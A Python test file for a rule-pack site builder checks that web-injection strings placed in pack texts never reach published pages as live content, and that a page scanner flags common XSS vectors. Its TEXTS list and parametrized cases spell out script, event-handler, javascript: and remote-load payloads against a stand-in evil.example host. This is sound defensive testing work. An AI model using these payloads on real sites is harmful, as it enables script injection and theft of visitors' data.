"""A site with a pack whose every text tries to act: a scan of all its pages finds nothing that came from the pack."""

import json
import re
from pathlib import Path

import pytest
from hostile_packs import BIRDS, NAMES, PACK
from hostile_pictures import SECRET, picture
from page_scan import Scan
from test_hostile_packs import POND, folder

from wwrules.pipeline import check_game
from wwrules.publish.site import build_site

MARK = "zdxq"  # stands in every hostile text, so that we know that it was published
TEXTS = [
    f"{MARK} <script>alert(1)</script>",
    f"{MARK} <img src=x onerror=alert(1)>",
    f"{MARK} [x](javascript:alert(1)) <a href='javascript:alert(1)'>x</a>",
    f"{MARK} <svg/onload=alert(1)> <iframe src=//evil.example></iframe>",
    f"{MARK} \" onmouseover=\"alert(1)\" x=\" ' onfocus='alert(1)' autofocus '",
    f"{MARK} </title></script></style></textarea>--><script src=https://evil.example/x.js></script>",
    f"{MARK} {{% 7*7 %}} ${{7*7}} <link rel=stylesheet href=https://evil.example>",
    f"{MARK} ![x](https://evil.example/x.png) <https://evil.example> &lt;script&gt; &#60;script&#62;",
    f"{MARK} <base href=https://evil.example/> <meta http-equiv=refresh content=0;url=//evil.example>",
    f"{MARK} ]> <x/> <!-- <form action=//evil.example><input name=a> \\u003cscript\\u003e",
]


def quoted(number: int, most: int = 2000) -> str:
    """A hostile text as YAML writes it."""
    return json.dumps(TEXTS[number % len(TEXTS)][:most], ensure_ascii=False)


def hostile_pack() -> dict[str, str | bytes]:
    birds, names = "", ""
    for number in range(len(TEXTS)):
        bird = (
            BIRDS.partition("entities:\n")[2].replace("coot", f"b{number}").replace("Hides from the [[swan]].", quoted(number))
        )
        birds += bird
        names += f"  b{number}: {{name: {json.dumps(TEXTS[number][:70] + str(number))}, gender: f, origin: own}}\n"
    rules = "".join(
        f"  marsh.r{number}: {{note: {quoted(number)}, status: inferred, concerns: [b{number}]}}\n" for number in range(10)
    )
    rulings = "".join(
        f"  ruling-{number}:\n    question: {quoted(number)}\n    answer: {quoted(number + 1)}\n    why: {quoted(number + 2)}\n"
        f"    concerns: [b{number}]\n    rules: [marsh.r{number}]\n"
        for number in range(10)
    )
    prose = "".join(f"  marsh.r{number}: {quoted(number)}\n" for number in range(10))
    return {
        "pack.yaml": PACK.replace("Marsh birds", quoted(0, 80))
        .replace("Somebody", quoted(4, 80))
        .replace("MIT", quoted(1, 40)),
        "cards/birds.yaml": BIRDS.partition("entities:\n")[0] + "entities:\n" + birds,
        "words/pl/lexicon.yaml": NAMES.partition("words:\n")[0] + "words:\n" + names,
        "words/pl/prose/marsh.yaml": f"type: prose\nrules:\n{prose}",
        "rules/marsh.yaml": f"type: rules\nchapter: marsh\norder: 50\nrules:\n{rules}",
        "rulings.yaml": f"type: rulings\nrulings:\n{rulings}",
        "changes.yaml": f'type: changes\nchanges:\n  - {{version: "1.0.0", note: {quoted(2)}}}\n',
        "images/b0.png": picture() + SECRET,
    }


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    game, found = check_game(POND, [folder(hostile_pack())])
    assert [one for one in found if one.severity == "error"] == []
    out = tmp_path_factory.mktemp("published") / "site"
    build_site([game], out, ["pl"])
    return out


@pytest.mark.slow
def test_nothing_on_any_page_came_from_the_pack_to_act(site):
    pages = {page: page.read_text("utf-8") for page in sorted(site.rglob("*.html"))}
    known = {
        script for name in ("bird/swan", "index", "search") for script in Scan(pages[site / f"pl/pond/{name}.html"]).scripts
    }
    marked = {page for page, html in pages.items() if MARK in html}
    assert len([page for page in marked if "bird/marsh." in str(page)]) == len(TEXTS)
    assert {"birds.html", "marsh.html", "rulings.html", "changes.html", "swan.html"} & {page.name for page in marked}
    for page, html in pages.items():
        scan = Scan(html)
        if page.relative_to(site).parts[0] == "docs":  # ours; its links lead out into the world
            assert MARK not in html
            continue
        lost = ["<base>"] if page.name == "404.html" else []  # a page that is shown at any address
        assert scan.dangers in ([], lost), page
        assert set(scan.scripts) <= known or page.name in ("index.html", "404.html"), page
        assert all("alert" not in body and "evil" not in source for source, body in scan.scripts), page


@pytest.mark.slow
def test_nothing_else_that_is_published_acts(site):
    """Data that scripts read: plain JSON, in which no text can end the script; drawings and styles without the pack's words."""
    found = 0
    for file in sorted(site.rglob("*")):
        if file.suffix == ".json":
            json.loads(file.read_text("utf-8"))
        elif file.is_file() and file.suffix in (".js", ".css", ".svg", ".xml"):
            text = file.read_text("utf-8")
            found += MARK in text
            assert MARK not in text or file.name == "search-data.js", file
        elif file.is_file():
            assert SECRET not in file.read_bytes() or file.suffix == ".html", file
    data = (site / "pl" / "pond" / "search-data.js").read_text("utf-8")
    assert found == 1
    assert "</script" not in data.lower()
    json.loads(re.fullmatch(r"wwrulesSearch\((.*)\);\n", data).group(1))


@pytest.mark.parametrize(
    ("html", "found"),
    [
        ("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p><a href='../a.html#b'>x</a><img src='data:image/png;base64,AA=='>", 0),
        ("<a href='javascript:alert(1)'>", 1),
        ("<a href=' JAVA\tscript:alert(1)'>", 1),
        ("<a href='&#106;avascript:alert(1)'>", 1),
        ("<a href='data:text/html,x'>", 1),
        ("<img src='data:image/svg+xml;base64,AA=='>", 1),
        ("<a href='data:image/png;base64,AA=='>", 1),
        ("<img src=x onerror=alert(1)>", 1),
        ("<svg/onload=alert(1)>", 1),
        ("<svg><a xlink:href='javascript:alert(1)'/></svg>", 1),
        ("<img src=//evil.example/x>", 1),
        ("<img src='\\\\evil.example/x'>", 1),
        ("<link href=https://evil.example>", 1),
        ("<iframe></iframe><base href=x><object></object>", 3),
        ("<meta http-equiv=refresh content=0>", 1),
        ("<form action=https://evil.example>", 1),
        ("<p style='background:url(//evil.example)'>", 1),
        ("<style>@import 'x';</style>", 1),
    ],
)
def test_the_scan_bites(html, found):
    assert len(Scan(html).dangers) == found


def test_the_scan_knows_scripts():
    assert Scan("<script src='../../a.js'></script><script>alert(1)</script>").scripts == [("a.js", ""), ("", "alert(1)")]
